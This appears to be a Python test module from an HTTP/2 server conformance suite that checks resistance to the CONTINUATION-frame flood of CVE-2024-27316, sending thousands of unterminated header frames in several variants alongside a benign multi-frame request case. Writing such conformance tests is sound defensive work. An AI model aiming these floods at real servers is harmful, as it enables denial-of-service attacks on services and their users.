"""Header blocks that go on for ever, in CONTINUATION frames (RFC 9113, sections 6.10, 10.5; CVE-2024-27316).

Bounds of peers: nghttp2 8 frames, lighttpd 64 KiB and 32 frames at a time, nginx 32 KiB, Envoy 512 frames.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from securelight.conformance import hpack_bytes, http2_frames as frames, polite_client
from securelight.conformance.case import Topic
from securelight.conformance.http2_attacker import Flood, stopped
from securelight.conformance.polite_client import watched

if TYPE_CHECKING:
    from securelight.conformance.case import Question
    from securelight.conformance.dial import Dial
    from securelight.conformance.target import Target

CONTINUATIONS = Topic(
    "Header blocks without an end",
    rfc=0,
    why="Until END_HEADERS comes, a server keeps, or decodes, all of the block for a request that nobody logs.",
    cure="Bound the bytes and the number of frames of a header block, empty ones too, and end the connection.",
    abuse=True,
)
_FIELD = hpack_bytes.literal(b"tide", b"h" * 1000)
_NEVER_INDEXED = hpack_bytes.literal(b"tide", b"h", hpack_bytes.NEVER_INDEXED)


def _endless(what: str, begin: bytes, piece: bytes, count: int) -> Question:
    def items(target: Target) -> list[bytes]:
        first = frames.headers(1, hpack_bytes.request_to(target) + begin, end_headers=False)
        return [first, *[frames.continuation(1, piece, end_headers=False)] * (count - 1)]

    async def attack(dial: Dial) -> str:
        return stopped(await Flood(what, items, proves=False).run(dial), count, what)

    return watched()(attack)


_LONG_VALUE = bytes([0]) + hpack_bytes.string(b"tide") + hpack_bytes.integer(1 << 20, 7)
_CASES = {
    "fields": ("of 1,000 bytes, each a field", b"", _FIELD, 2_000),
    "small-fields": ("of one small field each", b"", _NEVER_INDEXED, 20_000),
    "empty": ("that are empty", b"", b"", 20_000),
    "one-byte": ("of one byte of a long value each", _LONG_VALUE, b"h", 20_000),
}
for _key, (_words, _begin, _piece, _count) in _CASES.items():
    CONTINUATIONS.must(
        f"abuse/CVE-2024-27316/{_key}", f"{_count:,} CONTINUATION frames {_words}", seconds=polite_client.CASE_SECONDS
    )(_endless(f"CONTINUATION {_words}", _begin, _piece, _count))


@CONTINUATIONS.must(
    "abuse/CVE-2024-27316/many-blocks", "500 requests, each in 7 frames, most of them empty",
    seconds=polite_client.CASE_SECONDS,
)  # fmt: skip
@watched()
async def many_blocks(dial: Dial) -> str:
    """Each block is within any bound: they are to be answered, or refused, at little cost."""

    def items(target: Target) -> list[bytes]:
        block = hpack_bytes.request_to(target)
        empty = frames.continuation
        return [
            frames.headers(number, block, end_headers=False)
            + b"".join(empty(number, b"", end_headers=place == 5) for place in range(6))
            for number in range(1, 1001, 2)
        ]

    attacker = await Flood("a request in seven frames", items).run(dial)
    return f"{attacker.sent} sent: {attacker.words}"
